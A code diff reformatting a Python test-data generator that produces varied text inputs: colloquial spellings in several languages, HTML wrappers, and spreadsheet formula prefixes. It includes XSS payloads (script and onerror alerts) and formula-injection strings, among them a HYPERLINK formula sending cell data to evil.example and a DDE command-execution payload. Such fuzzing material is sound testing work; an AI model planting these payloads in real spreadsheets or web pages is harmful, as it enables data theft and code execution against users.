@@ -11,7 +11,14 @@ _NEXT_KEY = {
 _ALIKE = (("的", "得"), ("在", "再"), ("帐", "账"), ("做", "作"), ("那", "哪"))
 _COLLOQUIAL = {
     "en": ((" you ", " u "), ("please", "plz"), (" are ", " r "), ("because", "bc"), ("don't", "dont"), ("I am", "im")),
-    "ru": (("сейчас", "щас"), ("пожалуйста", "плиз"), ("спасибо", "спс"), ("вообще", "ваще"), ("когда", "када"), ("что", "чё")),
+    "ru": (
+        ("сейчас", "щас"),
+        ("пожалуйста", "плиз"),
+        ("спасибо", "спс"),
+        ("вообще", "ваще"),
+        ("когда", "када"),
+        ("что", "чё"),
+    ),
     "zh": (("什么", "啥"), ("怎么", "咋"), ("非常", "灰常"), ("没有", "木有"), ("这样", "酱紫"), ("谢谢", "蟹蟹")),
 }
 
@@ -53,16 +60,27 @@ def markup(dice: Dice, text: str) -> str:
     body = text.replace("&", "&amp;").replace("\n\n", "</p><p>").replace("\n", "<br>")
     if dice.chance(0.5):
         body = body.replace(" ", "&nbsp;", 3)
-    body = dice.pick(("<p>{}</p>", "<div dir=\"ltr\">{}</div>", "<p><span style=\"color:#333\">{}</span></p>", "{}<br/>")).format(body)
+    body = dice.pick(
+        ("<p>{}</p>", '<div dir="ltr">{}</div>', '<p><span style="color:#333">{}</span></p>', "{}<br/>")
+    ).format(body)
     if dice.chance(0.25):
-        body += dice.pick(("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>"))
+        body += dice.pick(
+            ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '<a href="javascript:alert(1)">x</a>')
+        )
     return body
 
 
 def formula(dice: Dice, text: str) -> str:
     """Return a text that a spreadsheet would take for a formula."""
     start = dice.pick(
-        ('=HYPERLINK("http://evil.example/?d="&A1,"open") ', "@SUM(A1:A9) ", "+1 ", "=1+1 ", "-2+3 ", "=cmd|' /C calc'!A0 ")
+        (
+            '=HYPERLINK("http://evil.example/?d="&A1,"open") ',
+            "@SUM(A1:A9) ",
+            "+1 ",
+            "=1+1 ",
+            "-2+3 ",
+            "=cmd|' /C calc'!A0 ",
+        )
     )
     return start + text
 
